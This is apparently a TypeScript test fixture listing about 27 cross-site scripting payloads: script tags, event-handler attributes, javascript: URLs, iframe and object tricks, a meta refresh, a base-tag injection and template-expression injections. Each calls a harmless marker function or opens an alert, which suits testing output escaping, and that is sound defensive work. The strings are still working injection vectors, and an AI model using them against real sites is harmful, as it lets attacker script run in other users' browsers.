/*
 * Texts that become scripts where somebody writes them into HTML, attributes, addresses, styles or
 * JSON in a page. Each calls `ran(n)` or opens a dialog when it works.
 */
export const payloads: readonly string[] = [
  '<script>ran(1)</script>',
  '"><script>ran(2)</script>',
  '</title><script>ran(3)</script>',
  '</textarea><script>ran(4)</script>',
  '</script><script>ran(5)</script>',
  '<img src=x onerror=ran(6)>',
  '<img src="x" onerror="alert(7)">',
  '<svg onload=ran(8)>',
  '<svg><script>ran(9)</script></svg>',
  '<body onload=ran(10)>',
  '<iframe src="javascript:parent.ran(11)"></iframe>',
  '<iframe srcdoc="<script>parent.ran(12)</script>"></iframe>',
  '<a href="javascript:ran(13)">点击领取优惠</a>',
  'javascript:ran(14)',
  "' onmouseover='ran(15)",
  '" autofocus onfocus="ran(16)',
  '<details open ontoggle=ran(17)>',
  '<video><source onerror=ran(18)></video>',
  '<math><mtext></p><img src=x onerror=ran(19)>',
  '<object data="data:text/html,<script>ran(20)</script>"></object>',
  '<style>@import "javascript:ran(21)";*{background:url(javascript:ran(21))}</style>',
  '<meta http-equiv="refresh" content="0;url=javascript:ran(22)">',
  '<base href="https://example.invalid/">',
  '<form action="javascript:ran(24)"><input type=submit autofocus></form>',
  '{{constructor.constructor("ran(25)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template's syntax is the payload
  '${ran(26)}',
  '&lt;script&gt;ran(27)&lt;/script&gt;',
];
